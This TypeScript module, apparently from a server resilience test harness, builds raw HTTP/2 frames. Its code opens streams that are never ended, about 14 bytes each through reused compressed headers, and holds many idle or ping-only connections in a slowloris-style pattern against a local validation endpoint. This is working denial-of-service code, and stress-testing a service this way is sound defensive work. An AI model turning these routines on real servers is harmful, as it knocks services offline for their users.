import { setTimeout as sleep } from "node:timers/promises";
import { keepOpen } from "./keepOpen.ts";
import { ended, openConnection } from "./openConnection.ts";
import type { Stranger } from "./Stranger.ts";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS = 1;
const SETTINGS = 4;
const PING = 6;
const END_HEADERS = 4;

/** A frame (RFC 9113 4.1). */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
/** A header that later requests refer to by one byte (RFC 7541 6.2.1). */
const literal = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
const FIRST = Buffer.concat([
  literal(":method", "POST"),
  literal(":scheme", "https"),
  literal(":path", "/c/local/validate?timeout=30s"),
  literal(":authority", "localhost"),
  literal("content-type", "application/json"),
]);
const AGAIN = Buffer.from([0xc2, 0xc1, 0xc0, 0xbf, 0xbe]);

/** Opens streams that never end, 14 bytes each. */
export const openStreams: Stranger = (target, signal, count) =>
  keepOpen({ atOnce: 2, pauseMs: 500, signal, count }, async () => {
    const socket = await openConnection(target, "h2");
    socket.write(PREFACE);
    socket.write(frame(SETTINGS, 0, 0));
    for (let stream = 1; !socket.destroyed && !signal.aborted; ) {
      const frames: Buffer[] = [];
      for (let count = 0; count < 20; count += 1, stream += 2)
        frames.push(frame(HEADERS, END_HEADERS, stream, stream === 1 ? FIRST : AGAIN));
      if (!socket.write(Buffer.concat(frames))) await sleep(50);
      await sleep(10);
    }
    socket.destroy();
  });

/** Opens connections and says nothing, or only the preface and PINGs. */
export const idleConnections: Stranger = (target, signal, count) =>
  keepOpen({ atOnce: 100, pauseMs: 500, signal, count }, async (index) => {
    const socket = await openConnection(target, index % 4 === 0 ? "http/1.1" : "h2");
    if (index % 4 > 1) {
      socket.write(PREFACE);
      socket.write(frame(SETTINGS, 0, 0));
    }
    const ping = setInterval(() => {
      if (index % 4 === 3 && !socket.destroyed) socket.write(frame(PING, 0, 0, Buffer.alloc(8)));
    }, 1_000);
    await ended(socket, signal);
    clearInterval(ping);
  });
